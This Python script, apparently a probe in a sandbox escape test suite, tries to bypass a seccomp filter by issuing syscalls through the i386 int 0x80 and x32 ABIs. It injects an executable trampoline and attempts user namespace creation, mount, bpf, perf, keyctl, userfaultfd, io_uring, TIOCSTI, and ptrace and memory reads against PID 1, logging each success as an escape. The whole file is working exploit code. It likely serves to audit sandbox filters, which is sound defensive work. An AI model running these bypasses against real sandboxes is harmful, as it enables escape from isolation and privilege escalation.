"""Bypass the seccomp filter through the i386 (int 0x80) and x32 syscall ABIs: unshare/clone(CLONE_NEWUSER), mount, keyctl, bpf, ptrace, perf, userfaultfd, io_uring, TIOCSTI, personality."""
import ctypes
import errno
import os
import sys

from _attack import ESCAPES, NOTES, en, finish, in_child, libc, sysc  # noqa: F401

import mmap  # noqa: E402
import struct  # noqa: E402

X32 = 0x40000000
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
TRAMPOLINE = bytes([0x53, 0x55, 0x89, 0xf8, 0x89, 0xf3, 0x49, 0x89, 0xd2, 0x89, 0xca, 0x44, 0x89, 0xd1,
                    0x44, 0x89, 0xc6, 0x44, 0x89, 0xcf, 0x31, 0xed, 0xcd, 0x80, 0x5d, 0x5b, 0xc3])


class Compat:
    """Calls the i386 entry point; pointers live in a MAP_32BIT scratch page."""

    def __init__(self):
        self.code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
                              prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        self.code.write(TRAMPOLINE)
        self.fn = ctypes.CFUNCTYPE(ctypes.c_int, *([ctypes.c_long] * 6))(
            ctypes.addressof(ctypes.c_char.from_buffer(self.code)))
        self.low = mmap.mmap(-1, 65536, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
        self.base = ctypes.addressof(ctypes.c_char.from_buffer(self.low))
        if self.base >= 1 << 32:
            raise OSError("MAP_32BIT gave a high address")
        self.off = 0

    def put(self, data):
        addr = self.base + self.off
        self.low[self.off:self.off + len(data)] = data
        self.off += (len(data) + 15) & ~15
        return addr

    def __call__(self, nr, *args):
        a = list(args) + [0] * (5 - len(args))
        return self.fn(nr, *a)


def judge(name, r):
    if r >= 0:
        ESCAPES.append("%s succeeded (%d)" % (name, r))
    else:
        NOTES.append("%s: %s" % (name, en(-r)))


def main():
    # x32: the same numbers with bit 30 set (ENOSYS when the kernel lacks x32)
    for nr, name, args in ((272, "x32 unshare(NEWUSER)", (CLONE_NEWUSER,)), (165, "x32 mount", (0, 0, 0, 0, 0)),
                           (250, "x32 keyctl", (0, -3, 0)), (321, "x32 bpf", (0, 0, 0))):
        res = in_child(lambda nr=nr, args=args: "%d %d" % sysc(X32 | nr, *args))
        r, e = (int(x) for x in res.split())
        judge(name, r if r >= 0 else -e)
    try:
        c = Compat()
    except (OSError, ValueError) as e:
        NOTES.append("i386 entry unavailable: %s" % e)
        return
    if c(20) != os.getpid():  # i386 getpid: the trampoline works
        print("ERROR: i386 trampoline broken")
        sys.exit(2)

    def unshare_user():
        return str(c(310, CLONE_NEWUSER))

    def clone_user():
        r = c(120, CLONE_NEWUSER | 17, 0, 0, 0, 0)
        if r == 0:
            os._exit(0)
        if r > 0:
            os.waitpid(r, 0)
        return str(r)

    def personality():
        return str(c(136, 0x0400000))  # READ_IMPLIES_EXEC

    judge("i386 unshare(CLONE_NEWUSER)", int(in_child(unshare_user)))
    judge("i386 clone(CLONE_NEWUSER)", int(in_child(clone_user)))
    judge("i386 unshare(CLONE_NEWNS)", int(in_child(lambda: str(c(310, CLONE_NEWNS)))))
    judge("i386 personality(READ_IMPLIES_EXEC)", int(in_child(personality)))
    os.makedirs("/tmp/fbx-m32", exist_ok=True)
    judge("i386 mount(tmpfs)", c(21, c.put(b"none\0"), c.put(b"/tmp/fbx-m32\0"), c.put(b"tmpfs\0"), 0, 0))
    judge("i386 umount2(/proc/kallsyms)", c(52, c.put(b"/proc/kallsyms\0"), 2))
    judge("i386 keyctl(GET_KEYRING_ID)", c(288, 0, -3 & 0xffffffff, 0))
    judge("i386 add_key", c(286, c.put(b"user\0"), c.put(b"fbx\0"), c.put(b"x"), 1, -2 & 0xffffffff))
    judge("i386 bpf(MAP_CREATE)", c(357, 0, c.put(struct.pack("IIII", 2, 4, 4, 1) + b"\0" * 112), 128))
    judge("i386 perf_event_open", c(336, c.put(struct.pack("IIQQQQQ", 1, 112, 0, 0, 0, 0, 0x61) + b"\0" * 64), 0,
                                    -1 & 0xffffffff, -1 & 0xffffffff, 0))
    judge("i386 ptrace(ATTACH, 1)", c(26, 16, 1, 0, 0))
    judge("i386 userfaultfd", c(374, os.O_CLOEXEC))
    judge("i386 io_uring_setup", c(425, 4, c.put(b"\0" * 120)))
    judge("i386 syslog(SIZE_BUFFER)", c(103, 10, 0, 0))
    judge("i386 kcmp(1, self)", c(349, 1, os.getpid(), 0, 0, 0))
    judge("i386 setns(own user ns)", c(346, os.open("/proc/self/ns/mnt", os.O_RDONLY), 0))
    judge("i386 swapon", c(87, c.put(b"/tmp/fbx-m32\0"), 0))
    judge("i386 acct", c(51, c.put(b"/tmp/fbx-acct32\0")))
    judge("i386 sethostname", c(74, c.put(b"fbx32"), 5))
    judge("i386 open_by_handle_at", c(342, os.open("/dev/null", os.O_RDONLY), c.put(struct.pack("Ii", 8, 1) + b"\2\0\0\0\0\0\0\0"), 0))

    def tiocsti():
        os.setsid()
        master, slave = os.openpty()
        c(54, slave, 0x540E, 0)  # TIOCSCTTY
        return str(c(54, slave, 0x5412, c.put(b"x")))
    judge("i386 ioctl(TIOCSTI) on own controlling pty", int(in_child(tiocsti)))
    # process_vm_readv against init: EFAULT would mean the access check passed
    r = c(347, 1, c.put(struct.pack("II", c.base + 60000, 8)), 1, c.put(struct.pack("II", 0x1000, 8)), 1)
    if r >= 0 or -r in (errno.EFAULT, errno.ENOMEM):
        ESCAPES.append("i386 process_vm_readv(1) passed the access check (%s)" % (r if r >= 0 else en(-r)))
    else:
        NOTES.append("i386 process_vm_readv(1): %s" % en(-r))
    uniq = {}
    for n in NOTES:
        uniq.setdefault(n.rsplit(": ", 1)[-1], []).append(n.rsplit(": ", 1)[0])
    NOTES[:] = ["%s: %s" % (k, ", ".join(v)) for k, v in uniq.items()]


if __name__ == "__main__":
    finish(main)
